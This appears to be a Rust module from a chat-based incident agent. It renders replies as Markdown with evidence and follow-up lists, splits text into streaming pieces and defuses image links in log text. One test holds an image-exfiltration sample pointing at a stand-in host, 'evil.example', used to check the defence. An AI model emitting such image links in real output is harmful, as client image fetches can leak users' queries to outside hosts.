//! A reply as the one text that a chat client shows: the answer, what its evidence is, what could be asked next.

use waggle_agent_core::Language;

use super::Reply;

/// A piece ends at the first blank from here on, in characters.
const PIECE: usize = 24;
/// No piece is longer: scripts without blanks are cut here.
const MAX_PIECE: usize = 48;

/// Writes a reply as Markdown.
pub(super) fn content(reply: &Reply, language: Language) -> String {
    let mut parts = vec![reply.text.trim_end().to_owned()];
    if !reply.evidence.is_empty() {
        let heading = match &reply.about {
            Some(incident) => {
                language.pick(format!("Evidence of `{incident}`"), format!("证据（`{incident}`）"))
            }
            None => language.pick("Evidence", "证据").to_owned(),
        };
        parts.push(list(&heading, reply.evidence.iter().map(|note| format!("{}: {}", note.id, note.text))));
    }
    if !reply.follow_ups.is_empty() {
        let heading = language.pick("You could ask", "可以接着问");
        parts.push(list(heading, reply.follow_ups.iter().cloned()));
    }
    parts.retain(|part| !part.is_empty());
    parts.join("\n\n")
}

/// Cuts a text before the first of these sequences that occurs in it.
pub(super) fn stopped(text: &str, stops: &[String]) -> String {
    let end = stops.iter().filter_map(|stop| text.find(stop.as_str())).min();
    end.and_then(|end| text.get(..end)).unwrap_or(text).to_owned()
}

/// Cuts a text into pieces that give it when they are joined; none is empty.
pub(super) fn pieces(text: &str) -> Vec<String> {
    let mut pieces = Vec::new();
    let mut piece = String::new();
    let mut n = 0;
    for c in text.chars() {
        piece.push(c);
        n += 1;
        if n >= MAX_PIECE || (n >= PIECE && c.is_whitespace()) {
            pieces.push(std::mem::take(&mut piece));
            n = 0;
        }
    }
    if !piece.is_empty() {
        pieces.push(piece);
    }
    pieces
}

fn list(heading: &str, items: impl Iterator<Item = String>) -> String {
    let items: Vec<String> =
        items.map(|item| format!("- {}", without_images(&item.replace('\n', " ")))).collect();
    format!("**{heading}**\n{}", items.join("\n"))
}

/// Defuses images in text from outside that is shown as Markdown; the rest stays as it is.
///
/// Clients fetch images from anywhere: a line from a log could tell another host what was asked.
pub fn without_images(text: &str) -> String {
    let lower = text.to_ascii_lowercase();
    let mut shown = String::with_capacity(text.len());
    let mut rest = 0;
    for (at, c) in text.char_indices() {
        let Some(ahead) = lower.get(at..) else { continue };
        if ahead.starts_with("![") || ahead.starts_with("<img") {
            shown.push_str(text.get(rest..at).unwrap_or_default());
            shown.push_str(if c == '!' { "!\\" } else { "&lt;" });
            rest = at + 1;
        }
    }
    shown.push_str(text.get(rest..).unwrap_or_default());
    shown
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use waggle_agent_core::{EvidenceId, IncidentId};

    use super::*;
    use crate::openai::EvidenceNote;

    fn reply() -> Reply {
        Reply {
            text: "`checkout` is slow: p99 2.1 s [E3]\n".to_owned(),
            about: Some(IncidentId("inc-1".to_owned())),
            evidence: vec![EvidenceNote { id: EvidenceId(3), text: "`compare`\nof `checkout`".to_owned() }],
            follow_ups: vec!["Show the slow traces".to_owned()],
            ..Reply::default()
        }
    }

    #[test]
    fn a_reply_is_read_from_top_to_bottom_in_its_language() {
        insta::assert_snapshot!(content(&reply(), Language::En));
        insta::assert_snapshot!(content(&reply(), Language::Zh));
        let bare = Reply { text: "Nothing is wrong.".to_owned(), ..Reply::default() };
        assert_eq!(content(&bare, Language::En), "Nothing is wrong.");
    }

    #[test]
    fn no_image_is_fetched_for_a_line_from_a_log() {
        let cases = [
            ("it logged `![x](http://evil.example/?q=1)`", "it logged `!\\[x](http://evil.example/?q=1)`"),
            ("<img src=x> <IMG src=x> <b>", "&lt;img src=x> &lt;IMG src=x> <b>"),
            ("慢! [a](b) ![", "慢! [a](b) !\\["),
            ("", ""),
        ];
        for (text, expected) in cases {
            assert_eq!(without_images(text), expected);
        }
        let asks = Reply { follow_ups: vec!["![x](y)".to_owned()], ..reply() };
        assert!(content(&asks, Language::En).ends_with("- !\\[x](y)"));
    }

    #[test]
    fn a_text_ends_before_the_first_sequence_that_stops_it() {
        let cases: [(&str, &[&str], &str); 5] = [
            ("one two three", &[], "one two three"),
            ("one two three", &["four"], "one two three"),
            ("one two three", &["three", "two"], "one "),
            ("慢。快。", &["。"], "慢"),
            ("one", &["one"], ""),
        ];
        for (text, stops, expected) in cases {
            let stops: Vec<String> = stops.iter().map(ToString::to_string).collect();
            assert_eq!(stopped(text, &stops), expected, "{text} {stops:?}");
        }
    }

    proptest! {
        #[test]
        fn pieces_are_short_and_give_the_text_when_joined(text in "(\\PC|\\s){0,300}") {
            let pieces = pieces(&text);
            prop_assert_eq!(pieces.concat(), text);
            prop_assert!(pieces.iter().all(|piece| (1..=MAX_PIECE).contains(&piece.chars().count())));
        }
    }
}
